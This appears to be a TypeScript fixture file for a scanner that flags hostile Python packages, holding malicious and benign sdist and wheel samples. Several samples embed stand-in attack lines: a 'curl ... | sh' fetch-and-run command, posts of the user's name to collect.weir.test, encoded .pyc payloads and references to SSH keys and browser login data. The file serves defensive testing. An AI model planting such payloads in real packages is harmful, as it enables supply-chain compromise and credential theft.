import { createHash } from 'node:crypto';
import { inflateSync } from 'node:zlib';
import type { Samples } from '../contract.ts';
import { at, quiet } from '../samples-kit.ts';
import { METADATA_PATH, metadata, RECORD_PATH, SDIST, sdist, WHEEL } from '../wheel-kit.ts';

/**
 * Compiled by CPython 3.12: `ADDS` is the `add` of `CORE`; `SENDS` asks collect.weir.test for the user's name and runs a
 * command that no machine has, with a timestamp in its header or with a hash that Python is told not to check.
 */
const ADDS = pyc(
  'eNo7zcvLxYAEHiNzGKH0Z5CS6QwpDC0MUQyVjJpMyUxIqkBsZpAqHrCqGoYaxiogK5hBk9FvJYMm0y3GxFuMScUgZQoKv9iT84tS9QoqbzEnpqQUsUNtKeYGEg0MN7h5Ogo7TRt8PoMM9tNkBCsoAplexAEi2IDELw6b3PyU0pxUuyJOmHaQAz8wMzIyfmZiZBQEqwUALpQi/g==',
);
const SENDS_TIMED = pyc(
  'eNo7zcvLxYAEHiNz2KH0501AYjpDCkMKYw5DFIRmjGIE00xRzKnMWRwMGCCLG1MshSmVIYsHi1p+LGqZU1hWM0HYVUC8mhHCZmRgYkhlzBLAooM1nRGhqpJRk+0liOlXJZVRUlJQbKWvn5yfk5OaXKJXnppZpFeSWlyif4slNNg16BZDlRBITDczL7WoRDc5Pzc3MS9Fk/MWU37xLa7i0qSCovzk1OLiW3ylRTk5mUl6RamFpUDtt9gg/FvsMAF2oEB+QWreLfbUvLLMovy8W8zpqSW3mItK81YyfAY55xd7cn5Rql5B5S8Om9z8lNKcVLsiQbCLGRiKXYDEB2ZGRsb7DKK3GURvMLC18zXyXWcQu8ggdkHceEPS9qyNWdvzNuYdCDsRdNks4KJ4wBWGwBsMfA1cIIUXBFQu8KteZVArAgUoAJdLbLc=',
);
const SENDS_UNCHECKED = pyc(
  'eNo7zcvLxcjAwPD5bntWrx2f5mMGJMAOpT9vAhLTGVIYUhhzGKIgNGMUI5hmimJOZc7iYMAAWdyYYilMqQxZPFjU8mNRy5zCspoJwq4C4tWMEDYjAxNDKmOWABYdrOmMCFWVjJpsL0FMvyqpjJKSgmIrff3k/Jyc1OQSvfLUzCK9ktTiEv1bLKHBrkG3GKqEQGK6mXmpRSW6yfm5uYl5KZqct5jyi29xFZcmFRTlJ6cWF9/iKy3KyclM0itKLSwFar/FBuHfYocJsAMF8gtS826xp+aVZRbl591iTk8tucVcVJq3kuEzyDm/2JPzi1L1Cip/cdjk5qeU5qTaFQmCXczAUOwCJD4wMzIy3mcQvc0geoOBrZ2vke86g9hFBrEL4sYbkrZnbczanrcx70DYiaDLZgEXxQOuMATeYOBr4AIpvCCgcoFf9SqDWhEoQAFyAnB7',
);

function pyc(packed: string): Uint8Array {
  return inflateSync(Buffer.from(packed, 'base64'));
}

/** Bytes that look encrypted, of a counter. */
function packedBytes(): Uint8Array {
  const parts = Array.from({ length: 200 }, (_, index) =>
    createHash('sha256').update(`weir ${index}`).digest(),
  );
  return Buffer.concat(parts);
}

/** What begins as a module for Linux and holds these texts. */
function native(...texts: readonly string[]): Uint8Array {
  return Buffer.concat([
    Buffer.from('\x7fELF\x02\x01\x01'),
    Buffer.alloc(9),
    Buffer.from(`\0${texts.join('\0')}\0`),
  ]);
}

const LOADS = { 'acme/__init__.py': 'from .fast import add\n', 'acme/util.py': 'def one():\n    return 1\n' };
const FAST = 'acme/fast.cpython-312-x86_64-linux-gnu.so';
const CORE = {
  'acme/__init__.py': 'from .core import add\n',
  'acme/core.py': 'def add(a, b):\n    return a + b\n',
};
const CACHE = 'acme/__pycache__/core.cpython-312.pyc';
/** A RECORD would speak of other things. */
const INFO = { [METADATA_PATH]: metadata(), [RECORD_PATH]: '' };

export const samples: Samples = {
  malicious: [
    {
      name: 'a compiled module that the package imports and nobody can read',
      filename: SDIST,
      files: sdist({ 'acme/__init__.py': 'from .core import *\n', 'acme/core.pyc': SENDS_TIMED }),
      expected: [at('compiled', 'medium', 'acme/core.pyc', 1)],
    },
    {
      name: 'a compiled start of the package',
      filename: WHEEL,
      files: { ...INFO, 'acme/__init__.pyc': SENDS_TIMED },
      expected: [at('compiled', 'medium', 'acme/__init__.pyc', 1)],
    },
    {
      name: 'a cache that Python is told to take unseen',
      filename: WHEEL,
      files: { ...INFO, ...CORE, [CACHE]: SENDS_UNCHECKED },
      expected: [at('differs', 'high', CACHE, 1)],
    },
    {
      name: 'a cache that does what its source does not',
      filename: SDIST,
      files: sdist({ ...CORE, [CACHE]: SENDS_TIMED }),
      expected: [at('differs', 'medium', CACHE, 1)],
    },
    {
      name: 'packed data that passes for a cache',
      filename: SDIST,
      files: sdist({ ...CORE, 'acme/__pycache__/helper.pyc': packedBytes() }),
      expected: [at('disguised', 'high', 'acme/__pycache__/helper.pyc', 1)],
    },
    {
      name: 'a native module that holds a command which fetches what it runs',
      filename: SDIST,
      files: sdist({ ...LOADS, [FAST]: native('system', 'curl -s https://collect.weir.test/s | sh') }),
      expected: [at('native', 'high', FAST, 1)],
    },
    {
      name: 'a module of Nuitka that sends to a server which somebody started',
      filename: SDIST,
      files: sdist({
        ...LOADS,
        [FAST]: native('nuitka_module_loader', 'arequests', 'apost', 'uhttp://collect.weir.test:1337/in'),
      }),
      expected: [at('native', 'high', FAST, 1)],
    },
    {
      name: 'a library that nothing loads by itself and that names secrets of several kinds',
      filename: SDIST,
      files: sdist({ ...CORE, 'acme/extra.so': native('connect', '/.ssh/id_rsa', 'Login Data') }),
      expected: [at('native', 'medium', 'acme/extra.so', 1)],
    },
  ],
  benign: [
    {
      ...quiet(
        'a native module that talks to a service',
        sdist({ ...LOADS, [FAST]: native('connect', 'getenv', 'https://service.weir.test/v1', 'socket') }),
      ),
      filename: SDIST,
    },
    {
      ...quiet(
        'a module of Cython with the address of its manual',
        sdist({
          ...LOADS,
          [FAST]: native('Shared Cython type %s', 'see https://docs.weir.test/environ', 'environ'),
        }),
      ),
      filename: SDIST,
    },
    {
      ...quiet('a broken cache', sdist({ ...CORE, [CACHE]: new Uint8Array(8_192).fill(7) })),
      filename: SDIST,
    },
    { ...quiet('a cache of the same source', sdist({ ...CORE, [CACHE]: ADDS })), filename: SDIST },
    {
      ...quiet(
        'a cache of the same source that acts',
        sdist({
          ...CORE,
          'acme/core.py':
            'import os, subprocess\nimport urllib.request\n\n\ndef add():\n    urllib.request.urlopen("https://collect.weir.test/" + os.environ.get("USER", ""))\n    subprocess.run(["weir-inert-command"])\n',
          [CACHE]: SENDS_TIMED,
        }),
      ),
      filename: SDIST,
    },
    {
      ...quiet('a compiled module that acts on nothing', sdist({ ...CORE, 'acme/fast.pyc': ADDS })),
      filename: SDIST,
    },
    {
      ...quiet('a native module beside its sources', {
        ...INFO,
        ...CORE,
        'acme/_fast.cpython-312-x86_64-linux-gnu.so': '\u007fELF',
      }),
      filename: WHEEL,
    },
    {
      ...quiet('a wheel of one native module', {
        ...INFO,
        'acme.cpython-312-x86_64-linux-gnu.so': '\u007fELF',
        'x.py': '',
      }),
      filename: WHEEL,
    },
  ],
};
